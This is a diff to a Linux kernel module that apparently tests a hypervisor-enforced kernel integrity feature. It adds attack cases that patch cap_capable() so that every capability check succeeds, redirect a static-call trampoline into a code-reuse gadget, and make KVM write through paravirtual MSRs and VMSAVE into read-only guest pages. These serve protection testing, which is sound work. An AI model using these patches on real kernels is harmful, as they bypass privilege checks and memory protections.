@@ -40,6 +40,8 @@
 #include <linux/capability.h>
 #include <linux/uaccess.h>
 #include <asm/kvm_para.h>
+#include <asm/pvclock-abi.h>
+#include <asm/msr.h>
 #include <asm/pgtable.h>
 #include <asm/special_insns.h>
 
@@ -54,6 +56,7 @@ int heki_atk_write_cr0(unsigned long val, unsigned long *ip);
 int heki_atk_vmfunc(unsigned long view);
 int heki_atk_call_window(void);
 int heki_atk_call(void *code);
+int heki_atk_vmsave(unsigned long pa);
 
 #define GADGET_RAN	0x4e58
 /* endbr64 (a NOP without IBT); mov $GADGET_RAN, %eax; ret */
@@ -569,6 +572,23 @@ static void heki_atk_patch_window_abuse(struct atk *a)
 	write_through_patch_channels(a, target);
 }
 
+/*
+ * Lockdown means immutable for data in every mode: a window on read-only
+ * data (no text_poke() ever asks for one) is refused even without
+ * authentication.
+ */
+static void heki_atk_window_rodata_write(struct atk *a)
+{
+	void *target = (void *)atk_kallsyms("linux_proc_banner");
+
+	if (!target) {
+		a->effect = -1;
+		say(a, "target_symbol_not_found");
+		return;
+	}
+	write_through_patch_channels(a, target);
+}
+
 /* LKDTM's targets, in this module as LKDTM keeps them in its own. */
 static noinline void heki_atk_do_overwritten(void)
 {
@@ -606,25 +626,33 @@ static void heki_atk_vmfunc_module_text(struct atk *a)
 
 static const u8 atk_nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
 
-/* Stores @len bytes at @site through a writable alias of its frame. */
+/*
+ * Stores @len (<= 8) bytes at @site through a writable alias of its frame:
+ * one aligned 8-byte store when they fit in one word, so no half-written
+ * instruction is ever seen; two otherwise (only for code nothing runs).
+ */
 static int alias_store_bytes(struct atk *a, u8 *site, const u8 *b, unsigned int len)
 {
-	u64 *word = (u64 *)((unsigned long)site & ~7ul), v;
+	unsigned long off = (unsigned long)site % 8;
+	u64 *word = (u64 *)((unsigned long)site & ~7ul), v[2];
 	struct page *page = atk_page(site);
+	unsigned int i, words = off + len > 8 ? 2 : 1;
 	unsigned long ip;
 	void *alias;
-	int faulted;
+	int faulted = 0;
 
-	if ((unsigned long)site % 8 + len > 8)
+	if (len > 8 || offset_in_page(word) + 8 * words > PAGE_SIZE)
 		return -1;
 	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
 	if (!alias)
 		return -1;
-	v = READ_ONCE(*word);
-	memcpy((u8 *)&v + (unsigned long)site % 8, b, len);
-	/* One aligned 8-byte store: no half-written instruction is ever seen. */
-	faulted = heki_atk_store8(alias + offset_in_page(word), v, &ip);
-	a->rip = ip;
+	v[0] = READ_ONCE(word[0]);
+	v[1] = words > 1 ? READ_ONCE(word[1]) : 0;
+	memcpy((u8 *)v + off, b, len);
+	for (i = 0; i < words && !faulted; i++) {
+		faulted = heki_atk_store8(alias + offset_in_page(word + i), v[i], &ip);
+		a->rip = ip;
+	}
 	vunmap(alias);
 	return faulted;
 }
@@ -637,45 +665,223 @@ static long atk_patch(unsigned long site, const u8 *b, unsigned int len)
 	return kvm_hypercall4(HEKI_HC_PATCH, site, len, lo, 0);
 }
 
-/*
- * Turns kstrdup()'s ftrace site (a NOP5 while untraced) into a call of a
- * function of the attacker's choosing: ftrace_stub, which only returns,
- * stands for any code-reuse target.  The channel is the host's own patch
- * call where the kernel is protected (a registered site, a CALL into
- * kernel text: an encoding the site may hold), a plain alias write where
- * it is not.
- */
-static void heki_atk_patch_call_retarget(struct atk *a)
+/* Whether heki.ko protects this kernel (the host's patch call is the way in). */
+static bool host_protects(void)
 {
-	u8 *site = (u8 *)atk_kallsyms("kstrdup");
-	unsigned long stub = atk_kallsyms("ftrace_stub");
 	struct heki_stats *st = kzalloc(sizeof(*st), GFP_KERNEL);
-	u8 call[5];
-	s32 rel;
+	bool on;
+
+	on = st && !kvm_hypercall4(HEKI_HC_STATS, __pa(st), sizeof(*st), 0, 0) &&
+	     st->protected_frames;
+	kfree(st);
+	return on;
+}
+
+/*
+ * Rewrites the 5 bytes at @site into @b as text_poke would: through the
+ * host's own patch call where the kernel is protected, through a plain
+ * alias write where it is not (or where the host refused).  Judged on the
+ * bytes read back; whatever landed is put back.
+ */
+static void patch_and_judge(struct atk *a, u8 *site, const u8 *b)
+{
+	u8 orig[5];
 	long ret = -1;
 
-	if (!site || !stub || !st || memcmp(site, atk_nop5, 5)) {
-		a->effect = -1;
-		say(a, "no_untraced_kstrdup_or_ftrace_stub");
-		kfree(st);
-		return;
-	}
+	memcpy(orig, site, 5);
 	a->gfn = atk_pfn(site);
-	call[0] = 0xe8;
-	rel = (s32)(stub - ((unsigned long)site + 5));
-	memcpy(call + 1, &rel, 4);
-	if (!kvm_hypercall4(HEKI_HC_STATS, __pa(st), sizeof(*st), 0, 0) &&
-	    st->protected_frames) {
-		ret = atk_patch((unsigned long)site, call, 5);
+	if (host_protects()) {
+		ret = atk_patch((unsigned long)site, b, 5);
 		say(a, "host_patch=%ld", ret);
 	}
 	if (ret)
-		a->faulted = alias_store_bytes(a, site, call, 5);
-	a->effect = !memcmp(site, call, 5);
-	say(a, "site=%pS now=%5ph", site, site);
-	if (a->effect && (ret || atk_patch((unsigned long)site, atk_nop5, 5)))
-		alias_store_bytes(a, site, atk_nop5, 5);
-	kfree(st);
+		a->faulted = alias_store_bytes(a, site, b, 5);
+	a->effect = !memcmp(site, b, 5);
+	say(a, "site=%pS was=%5ph now=%5ph", site, orig, site);
+	if (a->effect && (ret || atk_patch((unsigned long)site, orig, 5)))
+		alias_store_bytes(a, site, orig, 5);
+}
+
+/* A CALL (0xe8) or JMP (0xe9) rel32 at @site to @dest. */
+static void rel32_insn(u8 *insn, u8 op, const u8 *site, unsigned long dest)
+{
+	s32 rel = (s32)(dest - ((unsigned long)site + 5));
+
+	insn[0] = op;
+	memcpy(insn + 1, &rel, 4);
+}
+
+/* The ftrace site of @fn (after an endbr64), if it is untraced (a NOP5). */
+static u8 *untraced_ftrace_site(const char *fn)
+{
+	static const u8 endbr64[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
+	u8 *p = (u8 *)atk_kallsyms(fn);
+
+	if (p && !memcmp(p, endbr64, 4))
+		p += 4;
+	return p && !memcmp(p, atk_nop5, 5) ? p : NULL;
+}
+
+/*
+ * Turns kstrdup()'s ftrace site (a NOP5 while untraced) into a call of a
+ * function of the attacker's choosing: ftrace_stub, which only returns,
+ * stands for any code-reuse target.  A CALL to a function entry is an
+ * encoding the site may hold, which is why authentication alone cannot
+ * tell it from the kernel's own.
+ */
+static void heki_atk_patch_call_retarget(struct atk *a)
+{
+	u8 *site = untraced_ftrace_site("kstrdup");
+	unsigned long stub = atk_kallsyms("ftrace_stub");
+	u8 call[5];
+
+	if (!site || !stub) {
+		a->effect = -1;
+		say(a, "no_untraced_kstrdup_or_ftrace_stub");
+		return;
+	}
+	rel32_insn(call, 0xe8, site, stub);
+	patch_and_judge(a, site, call);
+}
+
+/*
+ * The capability check made a no-op: cap_capable()'s ftrace site becomes
+ * "jmp __static_call_return0", so every capable() answers yes.  ftrace
+ * only ever writes a NOP5 or a CALL of its own entry there.
+ */
+static void heki_atk_patch_ftrace_return0(struct atk *a)
+{
+	u8 *site = untraced_ftrace_site("cap_capable");
+	unsigned long ret0 = atk_kallsyms("__static_call_return0");
+	u8 jmp[5];
+
+	if (!site || !ret0) {
+		a->effect = -1;
+		say(a, "no_untraced_cap_capable_or_return0");
+		return;
+	}
+	rel32_insn(jmp, 0xe9, site, ret0);
+	patch_and_judge(a, site, jmp);
+}
+
+/*
+ * A static-call trampoline sent into the middle of a function (a
+ * code-reuse gadget, not a function entry): __SCT__x86_pmu_drain_pebs,
+ * which nothing calls without a PEBS-capable PMU.
+ */
+static void heki_atk_patch_tramp_gadget(struct atk *a)
+{
+	u8 *tramp = (u8 *)atk_kallsyms("__SCT__x86_pmu_drain_pebs");
+	unsigned long fn = atk_kallsyms("cap_capable");
+	u8 jmp[5];
+
+	if (!tramp || !fn) {
+		a->effect = -1;
+		say(a, "no_trampoline_or_cap_capable");
+		return;
+	}
+	rel32_insn(jmp, 0xe9, tramp, fn + 7);
+	patch_and_judge(a, tramp, jmp);
+}
+
+/*
+ * Two pages of this module's rodata for the attacks in which KVM writes
+ * guest memory on the guest's behalf (PV MSR areas, nested SVM state):
+ * read-only to the guest and restricted at the host, so only a KVM write
+ * that skips the second-stage permissions changes them.  Each attack has
+ * its own slot, judged against a snapshot; nothing reads the slots, so a
+ * write that landed is left there.
+ */
+static const u8 heki_atk_kvm_target[2 * PAGE_SIZE] __aligned(PAGE_SIZE) = {
+	[0 ... 2 * PAGE_SIZE - 1] = 0x5a
+};
+
+#define KVM_SLOT_WALL_CLOCK	0x100	/* struct pvclock_wall_clock, 12 bytes */
+#define KVM_SLOT_PVCLOCK	0x200	/* struct pvclock_vcpu_time_info, 32 bytes */
+#define KVM_SLOT_STEAL_TIME	0x400	/* struct kvm_steal_time, 64 bytes, 64-aligned */
+#define KVM_SLOT_VMSAVE		PAGE_SIZE	/* a whole page: VMSAVE's target */
+
+/*
+ * Points the PV MSR @msr at slot @off (@flags: its enable bit) and judges
+ * whether KVM wrote there; the MSR gets its old value back.  KVM writes
+ * wall clock at once, kvmclock and steal time on its way back into the
+ * guest: either way before the next instruction here.
+ */
+static void pv_msr_write(struct atk *a, u32 msr, unsigned long off,
+			 size_t len, u64 flags, bool restore)
+{
+	const u8 *slot = heki_atk_kvm_target + off;
+	u64 pa = (u64)atk_pfn(slot) << PAGE_SHIFT | offset_in_page(slot), old = 0;
+	u8 before[64];
+
+	memcpy(before, slot, len);
+	a->gfn = pa >> PAGE_SHIFT;
+	preempt_disable();	/* the MSRs are this vCPU's */
+	if (restore && rdmsrl_safe(msr, &old)) {
+		preempt_enable();
+		a->effect = -1;
+		say(a, "msr_0x%x_not_readable", msr);
+		return;
+	}
+	a->faulted = wrmsrl_safe(msr, pa | flags) != 0;
+	a->effect = memcmp(slot, before, len) != 0;
+	if (restore)
+		wrmsrl_safe(msr, old);
+	preempt_enable();
+	say(a, "msr=0x%x old=0x%llx wrmsr_faulted=%d slot=0x%llx changed=%d",
+	    msr, old, a->faulted, pa, a->effect);
+}
+
+static void heki_atk_kvm_wall_clock(struct atk *a)
+{
+	pv_msr_write(a, MSR_KVM_WALL_CLOCK_NEW, KVM_SLOT_WALL_CLOCK,
+		     sizeof(struct pvclock_wall_clock), 0, false);
+}
+
+static void heki_atk_kvm_pvclock(struct atk *a)
+{
+	pv_msr_write(a, MSR_KVM_SYSTEM_TIME_NEW, KVM_SLOT_PVCLOCK,
+		     sizeof(struct pvclock_vcpu_time_info), KVM_MSR_ENABLED, true);
+}
+
+static void heki_atk_kvm_steal_time(struct atk *a)
+{
+	pv_msr_write(a, MSR_KVM_STEAL_TIME, KVM_SLOT_STEAL_TIME,
+		     sizeof(struct kvm_steal_time), KVM_MSR_ENABLED, true);
+}
+
+/*
+ * VMSAVE with EFER.SVME set: the host (KVM emulating it, or the CPU with
+ * virtual VMSAVE through the second stage) writes this vCPU's FS, GS, TR,
+ * LDTR and syscall MSRs into the page the guest names.
+ */
+static void heki_atk_kvm_vmsave(struct atk *a)
+{
+	const u8 *slot = heki_atk_kvm_target + KVM_SLOT_VMSAVE;
+	u64 pa = (u64)atk_pfn(slot) << PAGE_SHIFT, efer;
+	u8 *before = kmalloc(PAGE_SIZE, GFP_KERNEL);
+
+	if (!before || !boot_cpu_has(X86_FEATURE_SVM)) {
+		a->effect = -1;
+		say(a, "%s", before ? "no_svm_in_guest_cpuid" : "no_memory");
+		kfree(before);
+		return;
+	}
+	memcpy(before, slot, PAGE_SIZE);
+	a->gfn = pa >> PAGE_SHIFT;
+	preempt_disable();
+	rdmsrl(MSR_EFER, efer);
+	if (wrmsrl_safe(MSR_EFER, efer | EFER_SVME)) {
+		a->effect = -1;
+		say(a, "efer_svme_refused");
+	} else {
+		a->faulted = heki_atk_vmsave(pa);
+		wrmsrl(MSR_EFER, efer);
+		a->effect = memcmp(slot, before, PAGE_SIZE) != 0;
+		say(a, "vmsave_faulted=%d slot=0x%llx changed=%d", a->faulted, pa, a->effect);
+	}
+	preempt_enable();
+	kfree(before);
 }
 
 static const u64 heki_atk_rodata = 0xAA55AA55AA55AA55ull;
